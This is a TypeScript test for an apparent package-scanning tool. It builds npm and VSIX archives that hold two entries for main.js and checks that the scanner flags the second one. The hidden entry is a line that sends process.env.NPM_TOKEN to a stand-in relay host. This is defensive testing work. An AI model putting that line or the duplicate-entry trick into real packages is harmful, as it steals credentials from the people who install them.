import assert from "node:assert/strict";
import { zipArchive } from "../../../packages/telltale/test/static/unpack/zip-archive.ts";
import type { Attack } from "../attack.ts";
import { inspect, usedHosts } from "./inspect.ts";
import { npmPackage } from "./pack.ts";

const manifest = '{"name":"twice","version":"1.0.0","bin":"main.js"}';
const harmless = "console.log('nothing');\n";
const real = (index: number): string =>
  `fetch('https://second-${index}.example-relay.net/?' + process.env.NPM_TOKEN);\n`;

/** Each form of the second entry, and the name under which npm 11 and unzip 6 leave it. */
const spellings = [
  "package/main.js",
  "package/./main.js",
  "./package//main.js",
  "elsewhere/main.js",
];

export const duplicateEntries: Attack = {
  name: "duplicate-entries",
  title: "two entries for one place: the first is shown, the last is installed",
  async try(place) {
    for (const [index, spelling] of spellings.entries())
      place.write(
        `${place.folder}/${index}.tgz`,
        npmPackage([
          ["package/package.json", manifest],
          ["package/main.js", harmless],
          [spelling, real(index)],
        ]),
      );
    place.write(
      `${place.folder}/${spellings.length}.vsix`,
      zipArchive([
        {
          name: "extension/package.json",
          content: '{"name":"twice","engines":{"vscode":"*"},"main":"./main.js"}',
        },
        { name: "extension.vsixmanifest", content: "<PackageManifest/>" },
        { name: "extension/main.js", content: harmless },
        { name: "extension/main.js", content: real(spellings.length) },
      ]),
    );
    const { report, code } = await inspect(place, place.folder);
    const archives = [...spellings.keys(), spellings.length];
    assert.deepEqual(
      usedHosts(report),
      archives.map((index) => `second-${index}.example-relay.net`),
    );
    const found = report.findings.filter(({ rule }) => rule === "duplicate-entry");
    assert.deepEqual(
      found.map(({ severity }) => severity),
      archives.map(() => "high"),
    );
    assert.equal(code, 1);
    return "both are read, the one that is installed as the program; the other is a finding";
  },
};
